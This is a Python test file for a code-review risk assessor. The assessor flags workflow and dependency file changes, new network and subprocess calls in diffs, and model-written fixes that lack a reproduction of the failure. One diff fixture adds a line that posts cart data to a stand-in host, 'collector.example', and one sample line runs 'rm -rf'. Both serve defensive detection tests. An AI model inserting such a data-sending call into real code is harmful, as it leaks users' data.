"""Review's change rules (pure): workflow/CI and dependency files, network and subprocess calls on added lines
only, and the reproduction rule (a model fix without one, a regression test that passes at the base)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from schemas.events import RiskLevel
from services.review.domain import UNPROVEN, FixFacts, RiskPolicy, assess, facts_of, raised
from services.review.rules import added_lines, is_dependency_file, is_workflow, new_calls, reproduction_gap
from tests.support.review import fix_payload

POLICY = RiskPolicy(protected_paths=("deploy/**",))


@pytest.mark.parametrize(
    ("path", "workflow"),
    [
        (".github/workflows/ci.yml", True),
        (".github/workflows/nested/deploy.yaml", True),
        (".github/actions/setup/action.yml", True),
        (".gitlab-ci.yml", True),
        ("Jenkinsfile", True),
        ("services/api/Jenkinsfile", True),
        (".circleci/config.yml", True),
        (".pre-commit-config.yaml", True),
        (".github/CODEOWNERS", False),
        ("docs/workflows/ci.md", False),
        ("src/gitlab_ci.py", False),
    ],
)
def test_workflow_files(path: str, workflow: bool) -> None:
    assert is_workflow(path) is workflow


@pytest.mark.parametrize(
    ("path", "dependency"),
    [
        ("requirements.txt", True),
        ("requirements-dev.txt", True),
        ("requirements/base.txt", True),
        ("pyproject.toml", True),
        ("packages/web/package.json", True),
        ("package-lock.json", True),
        ("yarn.lock", True),
        ("pnpm-lock.yaml", True),
        ("uv.lock", True),
        ("poetry.lock", True),
        ("go.sum", True),
        ("Cargo.lock", True),
        ("src/requirements_parser.py", False),
        ("docs/package.md", False),
        ("src/shop/pricing.py", False),
    ],
)
def test_dependency_files(path: str, dependency: bool) -> None:
    assert is_dependency_file(path) is dependency


PATCH = """\
diff --git a/shop/pricing.py b/shop/pricing.py
index 1111111..2222222 100644
--- a/shop/pricing.py
+++ b/shop/pricing.py
@@ -1,6 +1,7 @@
 import math
-import subprocess
+import decimal
 
 def price(cart):
-    subprocess.run(["true"])
+    total = decimal.Decimal(0)
+    requests.post("https://collector.example/x", json=cart)
     return total
"""


def test_added_lines_carry_file_and_new_line_numbers() -> None:
    lines = added_lines(PATCH)
    assert [(a.file, a.line) for a in lines] == [("shop/pricing.py", 2), ("shop/pricing.py", 5),
                                                 ("shop/pricing.py", 6)]  # fmt: skip
    assert lines[2].text.strip().startswith("requests.post(")


def test_only_added_lines_count_removed_subprocess_is_not_a_new_call() -> None:
    calls = new_calls(PATCH)
    assert [(c.kind, c.where()) for c in calls] == [("network", "shop/pricing.py:6")]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("import requests", "network"),
        ("from httpx import AsyncClient", "network"),
        ("    r = httpx.get(url)", "network"),
        ("    with urllib.request.urlopen(url) as r:", "network"),
        ("    s = socket.create_connection((host, 80))", "network"),
        ("  const r = await fetch(`/api/${id}`);", "network"),
        ("const http = require('https');", "network"),
        ('import axios from "axios";', "network"),
        ("import subprocess", "subprocess"),
        ("    subprocess.check_output(['git', 'log'])", "subprocess"),
        ("    os.system('rm -rf /tmp/x')", "subprocess"),
        ("    await asyncio.create_subprocess_exec('ls')", "subprocess"),
        ("const { execSync } = require('child_process');", "subprocess"),
        ('    cmd := exec.Command("ls")', "subprocess"),
    ],
)
def test_network_and_process_calls_in_several_languages(line: str, kind: str) -> None:
    patch = f"--- a/f\n+++ b/f\n@@ -0,0 +1 @@\n+{line}\n"
    assert [c.kind for c in new_calls(patch)] == [kind]


@pytest.mark.parametrize(
    "line",
    ["    rows = cursor.fetch(10)", "    x = compute(values)", "# the requested total", "    pattern.exec(text)"],
)
def test_ordinary_code_is_not_a_call(line: str) -> None:
    assert new_calls(f"--- a/f\n+++ b/f\n@@ -0,0 +1 @@\n+{line}\n") == []


def test_a_patch_unidiff_refuses_is_still_scanned() -> None:
    broken = "+++ b/app.py\n@@ garbage @@\n+import socket\n"
    calls = new_calls(broken)
    assert [(c.kind, c.file) for c in calls] == [("network", "app.py")]


# ---------------------------------------------------------------- in the assessment


def facts(files: tuple[str, ...] = ("shop/pricing.py",), *, proved: bool = True, tests_passed: bool = True) -> FixFacts:
    return FixFacts(files=files, lines_added=3, lines_removed=1, tests_passed=tests_passed, proved=proved)


@pytest.mark.parametrize(
    ("files", "reason_part"),
    [
        ((".github/workflows/release.yml",), "changes a CI/workflow definition: .github/workflows/release.yml"),
        (("shop/pricing.py", "requirements.txt"), "changes dependency manifests or lockfiles: requirements.txt"),
        (("web/package.json",), "changes dependency manifests or lockfiles: web/package.json"),
    ],
)
def test_workflow_and_dependency_files_are_high(files: tuple[str, ...], reason_part: str) -> None:
    risk = assess(facts(files), POLICY)
    assert risk.level == RiskLevel.HIGH
    assert reason_part in risk.reasons


def test_an_added_outbound_call_is_high_and_names_the_line() -> None:
    fix = fix_payload(patch=PATCH, files_changed=["shop/pricing.py"], lines_added=3, lines_removed=2, proof="proved")
    risk = assess(facts_of(fix), POLICY)
    assert risk.level == RiskLevel.HIGH
    [reason] = [r for r in risk.reasons if r.startswith("adds network call")]
    assert "shop/pricing.py:6" in reason and "requests.post" in reason


@pytest.mark.parametrize(
    ("strategy", "reproduced", "gap"),
    [
        ("model-patch", True, False),
        ("model-patch", None, True),  # no reproduction possible
        ("model-patch", False, True),  # the regression test passed at the base
        ("revert-and-test", False, True),
        ("revert-and-test", None, False),  # a revert is judged by its proof
        ("revert-and-test", True, False),
    ],
)
def test_reproduction_gap(strategy: str, reproduced: bool | None, gap: bool) -> None:
    assert (reproduction_gap(strategy, reproduced) is not None) is gap


@pytest.mark.parametrize(
    ("base", "expected"),
    [
        (facts(), RiskLevel.MEDIUM),  # LOW + 1
        (facts(proved=False), RiskLevel.HIGH),  # unproven MEDIUM + 1
        (facts(("deploy/a.yaml",)), RiskLevel.CRITICAL),  # protected HIGH + 1
        (facts(tests_passed=False), RiskLevel.CRITICAL),  # stays CRITICAL
    ],
)
def test_no_reproduction_raises_the_level_one_step(base: FixFacts, expected: RiskLevel) -> None:
    without = assess(base, POLICY)
    gap = replace(base, reproduction_gap="model-written fix without a reproduction of the failure")
    risk = assess(gap, POLICY)
    assert risk.level == expected == raised(without.level)
    assert "model-written fix without a reproduction of the failure" in risk.reasons


def test_a_regression_test_passing_at_the_base_is_flagged_and_raised() -> None:
    fix = fix_payload(strategy="model-patch", proof="proved", reproduced=False,
                      reproduction_note="tests/test_regression.py passed at the base commit",
                      files_changed=["shop/pricing.py", "tests/test_regression.py"], lines_added=8)  # fmt: skip
    risk = assess(facts_of(fix), POLICY)
    assert risk.level == RiskLevel.MEDIUM
    [flag] = [r for r in risk.reasons if "does not reproduce" in r]
    assert "passed at the base commit" in flag


def test_an_unproven_model_fix_without_reproduction_waits_as_high() -> None:
    fix = fix_payload(strategy="model-patch", proof="unproven", files_changed=["shop/pricing.py"], lines_added=2)
    risk = assess(facts_of(fix), POLICY)
    assert risk.level == RiskLevel.HIGH
    assert UNPROVEN in risk.reasons and any("without a reproduction" in r for r in risk.reasons)
